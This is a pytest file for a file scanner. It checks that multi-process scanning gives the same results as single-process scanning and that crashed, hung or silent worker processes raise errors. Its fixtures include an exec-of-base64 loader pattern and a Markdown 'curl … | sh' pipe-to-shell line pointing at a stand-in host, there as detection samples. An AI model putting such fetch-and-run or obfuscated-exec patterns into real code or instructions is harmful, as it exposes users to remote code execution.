"""However many processes read, the outcome is the same; one that dies or says too little is never a pass."""

from __future__ import annotations

import pickle
import sys
from dataclasses import replace
from functools import cache
from typing import TYPE_CHECKING

import pytest

from packtool.errors import CouldNotLook
from packtool.scan import apart
from packtool.scan.apart import answer, read_own
from packtool.scan.kinds import FileKind
from packtool.scan.match import Unit
from packtool.scan.rules import Ruleset, load_rules

if TYPE_CHECKING:
    from pathlib import Path

HIDDEN = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
UNITS = [
    *(Unit(key=f"py{number}", kind=FileKind.PYTHON, text=f"{HIDDEN}x = {number}\n") for number in range(5)),
    Unit(key="broken", kind=FileKind.PYTHON, text="def (:\n"),
    Unit(key="md", kind=FileKind.MARKDOWN, text="Run this:\n\n```sh\ncurl https://a.example/x | sh\n```\n"),
    Unit(key="empty", kind=FileKind.TEXT, text=""),
]


@cache
def ruleset() -> Ruleset:
    return load_rules()


def test_the_same_in_one_process_and_in_three(monkeypatch: pytest.MonkeyPatch) -> None:
    here = read_own(UNITS, ruleset(), 3)
    monkeypatch.setattr(apart, "WORTH_A_PROCESS", 50)
    there = read_own(UNITS, ruleset(), 3)
    assert list(there) == [unit.key for unit in UNITS]
    assert there == here
    assert here["py0"].pieces
    assert here["md"].pieces
    assert here["broken"].facts.parsed is False


def test_no_units(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "WORTH_A_PROCESS", 1)
    assert read_own([], ruleset(), 2) == {}


def test_what_a_process_is_asked_and_answers() -> None:
    said = pickle.loads(answer(pickle.dumps((ruleset(), tuple(UNITS)))))  # noqa: S301 - made right here
    assert said == read_own(UNITS, ruleset(), 1)


def test_a_word_list_that_is_broken(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "WORTH_A_PROCESS", 50)
    broken = replace(ruleset(), vocabulary={"act.x": {"pattern": ("(",)}})
    with pytest.raises(CouldNotLook, match=r"word list act.x is broken"):
        read_own(UNITS, broken, 2)


@pytest.mark.skipif(sys.platform == "win32", reason="the stand-in is a script")
def test_a_process_that_dies(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "python"
    program.write_text(f"#!{sys.executable}\nimport sys\nsys.exit('there is no memory left')\n")
    program.chmod(0o755)
    monkeypatch.setattr(apart, "WORTH_A_PROCESS", 50)
    monkeypatch.setattr(sys, "executable", str(program))
    with pytest.raises(CouldNotLook, match="ended with code 1: there is no memory left"):
        read_own(UNITS, ruleset(), 2)


def test_a_process_that_does_not_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "WORTH_A_PROCESS", 50)
    monkeypatch.setattr(apart, "_SECONDS", 0.01)
    monkeypatch.setattr(apart, "_SECONDS_A_MEGABYTE", 0.0)
    with pytest.raises(CouldNotLook, match="did not end"):
        read_own(UNITS, ruleset(), 2)


@pytest.mark.skipif(sys.platform == "win32", reason="the stand-in is a script")
@pytest.mark.parametrize("said", [b"", b"no answer", pickle.dumps({}), pickle.dumps({"other": None})])
def test_a_process_that_says_too_little(said: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "python"
    program.write_text(f"#!{sys.executable}\nimport sys\nsys.stdout.buffer.write({said!r})\n")
    program.chmod(0o755)
    monkeypatch.setattr(apart, "WORTH_A_PROCESS", 50)
    monkeypatch.setattr(sys, "executable", str(program))
    with pytest.raises(CouldNotLook, match="did not answer for all"):
        read_own(UNITS, ruleset(), 2)
